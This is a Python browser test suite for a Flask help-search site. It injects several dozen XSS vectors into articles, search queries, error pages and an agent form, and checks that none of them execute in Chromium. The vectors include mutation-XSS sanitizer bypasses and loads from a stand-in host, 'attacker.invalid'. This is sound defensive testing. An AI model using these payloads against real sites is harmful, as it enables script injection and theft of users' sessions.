"""Markup that runs scripts elsewhere, in foreign articles, queries, letters and comments: in Chromium none of it runs.

A page that the server makes holds HTML made anew from blocks of text (indexer/sections.py), in which nothing of an
article's own markup is left; so no cleaner of HTML stands behind it. The policy of the pages is switched off here, so
that it hides nothing: what is seen is the HTML alone.
"""

import html
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from urllib.parse import quote, urlsplit

import pytest
from flask import Flask, Response
from helpers import HashEncoder, build_index
from playwright.sync_api import Browser, Page, expect
from serving import served

from indexer.artifact import load
from server.app import create_app

pytestmark = pytest.mark.browser

AWAY = "//attacker.invalid"
VECTORS = [
    "<script>alert(1)</script>",
    f"<script src={AWAY}/x.js></script>",
    "<ScRiPt\n>alert(1)</sCrIpT\t>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    f"<img src={AWAY}/x.png>",
    "<img/src='x'/onerror=alert(1)//",
    '<img src="x` `<script>alert(1)</script>"` `>',
    "<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\">",
    "<svg onload=alert(1)>",
    "<svg><script>alert&#40;1&#41;</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text x=20 y=20>нажми</text></a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>parent.alert(1)</script>'></iframe></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<math href='javascript:alert(1)'>нажми</math>",
    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror=alert(1) src>'>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><img src=x onerror=alert(1)></template>",
    "<textarea></textarea><img src=x onerror=alert(1)>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "\"><script>alert(1)</script>",
    "' autofocus onfocus='alert(1)",
    "\" autofocus onfocus=\"alert(1)",
    f"<style>@import '{AWAY}/x.css';*{{background:url({AWAY}/y.png)}}</style>",
    f"<p style='background:url({AWAY}/z.png)'>абзац</p>",
    f"<link rel=stylesheet href={AWAY}/x.css><base href={AWAY}/>",
    f"<meta http-equiv=refresh content='0;url={AWAY}/'>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='&lt;script&gt;parent.alert(1)&lt;/script&gt;'></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'></object><embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>нажми</a>",
    "<a href='java\tscript:alert(1)'>нажми</a>",
    "<a href='jav&#x0A;ascript&colon;alert(1)'>нажми</a>",
    "<a href='&#14;  javascript:alert(1)'>нажми</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>нажми</a>",
    "<a href='vbscript:msgbox(1)'>нажми</a>",
    "<details open ontoggle=alert(1)>ещё</details>",
    "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)></audio>",
    "<input autofocus onfocus=alert(1)><select autofocus onfocus=alert(1)></select>",
    "<body onload=alert(1)><marquee onstart=alert(1)>бегу</marquee>",
    "<form action=javascript:alert(1)><button>да</button></form><button formaction=javascript:alert(1)>да</button>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[><img src=x onerror=alert(1)>]]>",
    "<xss style='animation-name:x' onanimationstart=alert(1) tabindex=1 onfocus=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "[нажми](javascript:alert(1)) [нажми](JaVaScRiPt:alert(1)) [нажми](java&#x73;cript:alert(1)) <javascript:alert(1)>",
    "[нажми](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) ![рис](x\"onerror=\"alert(1))",
    "[нажми][д]\n\n[д]: javascript:alert(1) \"' onmouseover='alert(1)\"",
    "`</code><script>alert(1)</script>`",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "{{ ''.__class__ }} {% raw %}<script>alert(1)</script>{% endraw %} ${alert(1)}",
    # what is harmless as it is parsed, and is not once it was written and parsed again
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math><mtext><table><mglyph><style><![CDATA[</style><img title=\"]]></mglyph><img src=1 onerror=alert(1)>\">",
    "<svg><desc><table><style><!--</style></desc></svg><img title=\"--><img src=x onerror=alert(1)>\">",
    "<noembed><p title=\"</noembed><img src=x onerror=alert(1)>\"></p></noembed>",
    "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\"></p></xmp>",
    "<noframes><style></noframes><img src=x onerror=alert(1)></style>",
    "<select><option><style></option></select><img src=x onerror=alert(1)></style>",
    "<p title=\"&lt;/p&gt;&lt;img src=x onerror=alert(1)&gt;\">абзац</p>",
    "<h2 id='a\" onmouseover=\"alert(1)' class='&quot; onload=&quot;alert(1)'>Ещё</h2><p>Вот.",
    "<a href='https://example.ru/\" onmouseover=\"alert(1)' ping=//attacker.invalid>нажми</a>",
    "<a href='&#x6A;ava&NewLine;script&colon;alert(1)'>нажми</a><a href='\x01javascript:alert(1)'>нажми</a>",
    "<table><td background=javascript:alert(1)><caption onclick=alert(1)><img src=x onerror=alert(1)></table>",
    "<plaintext><img src=x onerror=alert(1)>",
]  # fmt: skip

WORD = "ласточка"


def hostile_index(folder: Path) -> Path:
    """The index of two articles of each vector, one of Markdown and one of HTML; and of two whose names are vectors.

    Of those the second shows markup to its readers: title, headings, texts and steps hold it as it is.
    """
    (folder / "help").mkdir()
    for number, vector in enumerate(VECTORS):
        text = (
            f"# Статья {number}\n\nОткройте окно, {WORD}.\n\n{vector}\n\n"
            f"1. Нажмите {vector}\n2. Закройте окно.\n\n## Ещё\n\nВот.\n"
        )
        (folder / "help" / f"{number}.md").write_text(text, encoding="utf-8")
        page = (
            f"<h1>Страница {number}</h1><p>Откройте окно, {WORD}.</p>{vector}"
            f"<ol><li>Нажмите {vector}</ol><h2>Ещё</h2><p>Вот."
        )
        (folder / "help" / f"{number}-page.html").write_text(page, encoding="utf-8")
    (folder / "help" / "'onfocus=alert(1) autofocus='<img src=x onerror=alert(1)>.md").write_text(
        f"# <img src=x onerror=alert(1)> {WORD}\n\nПервая {WORD}.\n\n"
        '## "><img src=x onerror=alert(1)> {#"><svg-onload=alert(1)>}\n\nТекст.\n',
        encoding="utf-8",
    )
    shown = "".join(
        f"<h2>{html.escape(vector)}</h2><p>{html.escape(vector)}, {WORD}.</p><ol><li>Нажмите {html.escape(vector)}</ol>"
        for vector in VECTORS
    )
    page = f"<h1>{html.escape('<img src=x onerror=alert(1)>')} {WORD}</h1><p>Первая {WORD}.</p>{shown}"
    (folder / "help" / "shown.html").write_text(page, encoding="utf-8")
    build_index(folder / "help", folder / "index", keep_going=True)
    return folder / "index"


@pytest.fixture(scope="module")
def index(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return hostile_index(tmp_path_factory.mktemp("scripts"))


@pytest.fixture(scope="module")
def site(index: Path, tmp_path_factory: pytest.TempPathFactory):
    with served(without_policy(create_app(index, HashEncoder(), tmp_path_factory.mktemp("votes")))) as address:
        yield address


def without_policy(app: Flask) -> Flask:
    """The application, which tells browsers of no Content-Security-Policy any more."""

    def unguarded(response: Response) -> Response:
        response.headers.pop("Content-Security-Policy", None)
        return response

    # Werkzeug runs these in the opposite order: the first registered is the last to see a response.
    app.after_request_funcs[None].insert(0, unguarded)
    return app


@contextmanager
def watched(chromium: Browser, *sites: str) -> Iterator[Page]:
    """A page on which a dialog, a script of an article or a request to others than these sites fails the test."""
    context = chromium.new_context(base_url=sites[0])
    context.add_init_script("window.alert = () => { document.documentElement.dataset.ran = 'yes'; };")
    opened = context.new_page()
    wrong, known = [], {urlsplit(site)[:2] for site in sites}
    opened.on("dialog", lambda dialog: (wrong.append(dialog.message), dialog.dismiss()))
    opened.on("request", lambda r: wrong.append(r.url) if urlsplit(r.url)[:2] not in known else None)
    opened.on("pageerror", lambda error: wrong.append(str(error)))
    yield opened
    assert wrong == []
    context.close()


@pytest.fixture
def page(chromium, site):
    with watched(chromium, site) as opened:
        yield opened


# What runs, loads or leads away by itself, also in the shadow of an element.
ACTIVE = """() => {
  const all = (root) => [...root.querySelectorAll("*")].flatMap((e) => [e, ...(e.shadowRoot ? all(e.shadowRoot) : [])]);
  return all(document).flatMap((e) => {
  const names = [...e.attributes].filter((a) => /^on|^style$|^srcdoc$|^xlink:/i.test(a.name)).map((a) => a.name);
  const urls = ["href", "src", "action", "formaction", "data"].filter((n) => e.hasAttribute(n))
    .filter((n) => /^[\\s\\0-\\x20]*(javascript|data|vbscript):/i.test(e.getAttribute(n)) && e.rel !== "icon");
  const odd = /^(iframe|object|embed|base|math|style|template|marquee|video|audio|img|xss|animate|foreignobject)$/i
    .test(e.localName) ? [e.localName] : [];
  const inline = e.localName === "script" && !e.src ? ["inline script"] : [];
  return [...names, ...urls, ...odd, ...inline];
  });
}"""


def check_harmless(page):
    assert page.evaluate(ACTIVE) == []
    assert page.evaluate("document.documentElement.dataset.ran") is None


def test_no_policy_hides_what_the_pages_do(page):
    """The test can fail: a script in a page would be seen."""
    response = page.goto("/")
    assert "content-security-policy" not in response.headers
    page.evaluate("document.body.insertAdjacentHTML('beforeend', '<img src=/x onerror=alert(1)>')")
    expect(page.locator("html[data-ran]")).to_have_count(1)
    assert page.evaluate(ACTIVE) == ["onerror", "img"]


def test_articles_run_nothing(page, index):
    for head in load(index).articles:
        page.goto("/articles/" + quote(head.article_id))
        check_harmless(page)


def test_results_of_scripts_run_nothing(page):
    for start in range(0, len(VECTORS), 5):
        page.goto("/?q=" + quote(" ".join([WORD, *VECTORS[start : start + 5]])))
        check_harmless(page)


def test_pages_of_errors_and_chosen_filters_run_nothing(page):
    for vector in VECTORS[:6]:
        page.goto(f"/articles/{quote(vector)}")
        check_harmless(page)
        page.goto(f"/?q={WORD}&platform={quote(vector)}&tried={quote(vector)}&as_typed={quote(vector)}")
        check_harmless(page)


def test_letters_to_agents_run_nothing(page):
    page.goto("/agent")
    for vector in ["\n".join(VECTORS[start : start + 12]) for start in range(0, len(VECTORS), 12)]:
        page.locator("textarea[name=text]").fill(f"{WORD}\n{vector}")
        page.locator("form button").first.click()
        page.wait_for_load_state()
        check_harmless(page)
